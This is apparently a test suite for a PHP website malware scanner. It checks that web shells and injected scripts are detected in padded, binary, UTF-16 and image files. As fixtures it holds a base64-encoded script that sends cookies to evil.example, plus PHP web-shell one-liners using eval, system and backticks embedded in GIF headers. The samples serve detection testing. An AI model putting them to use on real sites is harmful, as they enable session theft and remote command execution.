import { beforeAll, describe, expect, test } from 'bun:test';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { type RunningService, sharedService } from '../support/service.ts';
import { ORDINARY, refusal, SHELL, SITE_CHECK, siteOf, standIn } from '../support/site-check.ts';

// Runs with the whole matrix: it checks files of 16 MiB.

const MIB = 2 ** 20;
const to = (bytes: number, text: string) => text.repeat(Math.ceil(bytes / text.length));
const FUNCTION = 'function shop_title( $id ) { return esc_html( get_the_title( (int) $id ) ); }\n';
/** Ordinary lines with an odd number of quotes. */
const PROSE = "It isn't code that stands here, but what somebody wrote of it.\n";

describe.skipIf(!SITE_CHECK.isThere)(`long files in the site check in PHP${SITE_CHECK.unlessThere}`, () => {
  let service: RunningService;
  let key: string;
  beforeAll(async () => {
    service = await sharedService();
    key = (await service.issue('--plan', 'pro')).key;
  });

  test('a shell is found anywhere in its padding, with its line', async () => {
    const padded = {
      'after-code.php': `<?php\n${to(1.1 * MIB, FUNCTION)}${SHELL}\n`,
      'after-comment.php': `<?php /*\n${PROSE}${to(1.1 * MIB, PROSE)}*/ ${SHELL}`,
      'after-line.php': `<?php // ${to(1.1 * MIB, "isn't it ")}\n${SHELL}`,
      'after-text.php': `<?php $x = '${to(1.1 * MIB, 'say "it" ?> ')}';\n${SHELL}`,
      'after-heredoc.php': `<?php $x = <<<"ÉND"\n${to(1.1 * MIB, PROSE)}  ÉND;\n${SHELL}`,
      'after-page.php': `<html><?php ${ORDINARY.slice(6)} ?>\n${to(1.1 * MIB, `<p>${PROSE}`)}<?php ${SHELL}`,
      'before.php': `<?php ${SHELL} /*${to(1.1 * MIB, PROSE)}`,
      'binary.php': Buffer.concat([
        Buffer.from(`<?php $x = '${to(1.1 * MIB, '\xe9\x01')}'; ${SHELL}`, 'latin1'),
      ]),
      'picture.jpg': `\xff\xd8${to(1.1 * MIB, '\xe9')}<?php ${SHELL} // it is so`,
    };
    const site = siteOf({ ...padded, 'clean.php': `<?php\n${to(3 * MIB, FUNCTION)}` });
    const { code, lines, told } = await site.check(service.url, key);
    expect(lines.map((line) => line.split(' ')[2]).sort()).toEqual(
      Object.keys(padded)
        .map((path) => `${path}:`)
        .sort(),
    );
    expect([code, told.checked, told.unchecked]).toEqual([1, 10, 0]);
    const line = padded['after-code.php'].split('\n').length - 1;
    expect(lines.find((each) => each.includes('after-code'))).toEndWith(`, line ${line}`);
  }, 60_000);

  test('a script is found in invalid UTF-8, although that needs more space in a request', async () => {
    const malware = `\neval(atob("${btoa('document.location="http://evil.example/"+document.cookie')}"));`;
    const site = siteOf({
      'binary.js': Buffer.from(to(700_000, '/* \xe9\xf8\xfc */\n') + malware, 'latin1'),
      'control.js': to(700_000, '/* \x01\x02\x03\x04\x05 */\n') + malware,
    });
    const { told } = await site.check(service.url, key);
    expect(told).toMatchObject({ checked: 2, findings: 2, unchecked: 0, complete: true });
  });

  test.each(['utf16le', 'utf16be'] as const)('a file with the BOM of %s is decoded', async (encoding) => {
    const encoded = (text: string) => {
      const bytes = Buffer.from(`\ufeff${text}`, 'utf16le');
      return encoding === 'utf16le' ? bytes : bytes.swap16();
    };
    const malware = `eval(atob("${btoa('document.location="http://evil.example/"+document.cookie')}"));`;
    const lines = Array.from({ length: 30_000 }, (_, at) => `// ${at} ä€😀 ${'ü'.repeat(at % 40)}`).join(
      '\n',
    );
    const site = siteOf({
      'a.js': encoded(`${lines}\n${malware}`),
      'b.html': encoded(`<p>日本\n<script>${malware}</script>`),
      'halves.js': encoded(`var a = "\ud800 \udc00";\n${malware}`),
      'liar.js': encoded(`/* ${'\u4141'.repeat(40)} */ ${malware}`),
      'liar.php': Buffer.concat([encoded(''), Buffer.from(`<?php ${SHELL}`)]),
      'liar.sh': Buffer.concat([encoded('x'), Buffer.from(`\n${'# a\n'.repeat(20)}`)]),
      'marked.html': `\ufeff<p>\n<script>${malware}</script>`,
    });
    const { told, lines: found } = await site.check(service.url, key);
    expect(told).toMatchObject({ checked: 7, findings: 6, unchecked: 0 });
    expect(found[0]).toContain(' a.js: ');
    expect(found[0]).toContain(', line 30001');
    const seen = standIn(() => undefined);
    const parts = siteOf({ 'a.js': encoded(lines) });
    expect((await parts.check(seen.url, 'key')).told).toMatchObject({ checked: 1, unchecked: 0 });
    const whole = `\ufeff${lines}`;
    let end = 0;
    for (const part of seen.contents) {
      const at = whole.indexOf(part, Math.max(0, end - 20_000));
      expect(at).toBeWithin(0, end + 1);
      end = at + part.length;
    }
    expect([seen.contents.length > 2, end]).toEqual([true, whole.length]);
    await seen.end();
  });

  test('parts are split between characters, overlap by 8 KiB, and together are the file', async () => {
    const seen = standIn(() => undefined);
    const lines = Array.from({ length: 60_000 }, (_, at) => `// ${at} ä€😀 ${'ü'.repeat(at % 40)}`).join(
      '\n',
    );
    const solid = Array.from({ length: 120_000 }, (_, at) => `${at}ä€😀`).join('');
    const site = siteOf({ 'a.js': lines, 'b.js': solid });
    const { told } = await site.check(seen.url, 'key');
    expect(told).toMatchObject({ checked: 2, unchecked: 0 });
    for (const text of [lines, solid]) {
      const parts = seen.contents.filter((part) => text.includes(part));
      let end = 0;
      for (const part of parts) {
        const at = text.indexOf(part, Math.max(0, end - 20_000));
        if (end > 0) expect(Buffer.byteLength(text.slice(at, end))).toBeWithin(8_180, 16_400);
        end = at + part.length;
      }
      expect([parts.length > 2, end]).toEqual([true, text.length]);
    }
    expect(seen.contents.join('')).not.toContain('\ufffd');
    await seen.end();
  });

  test('a file over 16 MiB is unchecked if it is or contains code, and is not read again', async () => {
    const large = Buffer.alloc(17 * MIB);
    const site = siteOf({
      'film.mp4': large,
      'backup.tar': Buffer.concat([large, Buffer.from(`<?php ${SHELL} // it is`)]),
      'large.php': large,
    });
    const first = await site.check(service.url, key);
    expect([first.code, first.lines]).toEqual([
      3,
      ['unchecked 0 backup.tar: larger than 16 MiB', 'unchecked 0 large.php: larger than 16 MiB'],
    ]);
    expect(first.told).toMatchObject({ nothing_to_send: 1, unchecked: 2, unchanged: 0, findings: 0 });
    await Bun.sleep(2_100);
    await site.check(service.url, key);
    const limited = ['php', '-d', 'memory_limit=8M'];
    const again = await site.check(service.url, key, [], limited);
    expect(again.told).toMatchObject({ nothing_to_send: 0, unchecked: 2, unchanged: 1 });
    expect(again.lines).toEqual(first.lines);
  });

  test('a file that takes longer than a run is continued in the next, with little memory', async () => {
    const numbered = Array.from({ length: 65_000 }, (_, at) => FUNCTION.replace('title', `title_${at}`)).join(
      '',
    );
    const site = siteOf({ 'a.php': ORDINARY, 'b.php': `<?php\n${numbered}` });
    const slow = standIn((_, times) =>
      times % 3 === 0 ? refusal(429, 'RATE_LIMITED', '', { 'retry-after': '60' }) : undefined,
    );
    const runs = [];
    do
      runs.push(
        (await site.check(slow.url, 'key', ['--seconds', '20'], ['php', '-d', 'memory_limit=16M'])).told,
      );
    while (runs.at(-1)?.complete === false && runs.length < 10);
    expect(runs.map(({ complete, error }) => [complete, error])).toEqual([
      [false, null],
      [false, null],
      [true, null],
    ]);
    expect(runs.map(({ checked }) => checked)).toEqual([1, 0, 1]);
    expect(new Set(slow.contents).size).toBe(slow.contents.length);
    await slow.end();
  });

  test('a file that changes while it is sent is unchecked until the next run', async () => {
    const site = siteOf({ 'a.php': `<?php\n${to(3 * MIB, FUNCTION)}` });
    const changing = standIn((_, times) => {
      if (times === 1)
        writeFileSync(join(site.root, 'a.php'), `<?php\n${to(3 * MIB, FUNCTION)}`.replaceAll('shop', 'shut'));
      return undefined;
    });
    const first = await site.check(changing.url, 'key');
    expect([first.code, first.lines]).toEqual([3, ['unchecked 0 a.php: changed while it was read']]);
    expect((await site.check(changing.url, 'key')).told).toMatchObject({
      checked: 1,
      unchanged: 0,
      unchecked: 0,
    });
    await changing.end();
  });
});

describe.skipIf(!SITE_CHECK.isThere)(
  `files that the site check in PHP sends${SITE_CHECK.unlessThere}`,
  () => {
    test('files that a server or a browser runs by extension, and others that contain PHP', async () => {
      const seen = standIn(() => undefined);
      const sent =
        'php php7 phtml phar inc module install theme tpl js mjs html htm svg jsp jspx asp aspx ashx asmx cfm cfml cgi pl py rb ps1 sh';
      const names = [...sent.split(' ').map((ending) => `a.${ending}`), '.htaccess', '.user.ini', 'A.PHP'];
      const others = Object.fromEntries(
        ['txt', 'css', 'jpg', 'ini', 'phps', 'json'].map((ending) => [`b.${ending}`, 'x = 1']),
      );
      const site = siteOf({
        ...Object.fromEntries(names.map((name) => [name, `of ${name}`])),
        ...others,
        'empty.php': '',
      });
      const { told } = await site.check(seen.url, 'key');
      expect(seen.contents.sort()).toEqual(names.map((name) => `of ${name}`).sort());
      expect(told).toMatchObject({ checked: names.length, nothing_to_send: 7, unchecked: 0 });
      await seen.end();
    });

    test('PHP in pictures, between any bytes, and no picture with random bytes that resemble it', async () => {
      const seen = standIn(() => undefined);
      const code = {
        comment: '<?php /*\xe9*/ @eval($_POST[1]);',
        line: '<?php #\xff\n@eval($_POST[1]);',
        variable: '<?php $\xe9=$_POST[1];',
        backtick: '<?=`$_GET[1]`;',
        noise: `<?=/*${'\x00\xff'.repeat(900)}*/\`$_GET[1]\`;`,
        name: `<?= "${'\x00\xff'.repeat(150)}" . system($_GET[1]);`,
      };
      const chance = {
        echo: '\x01<?=\xe9\x02',
        short: '\x01<? \x03\xe9abc\x02',
        xml: '<?xml version="1.0"?>',
      };
      const site = siteOf(
        Object.fromEntries(
          Object.entries({ ...code, ...chance }).map(([name, text]) => [
            `${name}.gif`,
            Buffer.from(`GIF89a\x00\xff${text}`, 'latin1'),
          ]),
        ),
      );
      const { told } = await site.check(seen.url, 'key');
      expect(told).toMatchObject({ checked: 6, nothing_to_send: 3 });
      const sent = seen.contents.join('');
      for (const [name, text] of Object.entries(code))
        expect([name, sent.includes(text)]).toEqual([name, true]);
      await seen.end();
    });
  },
);
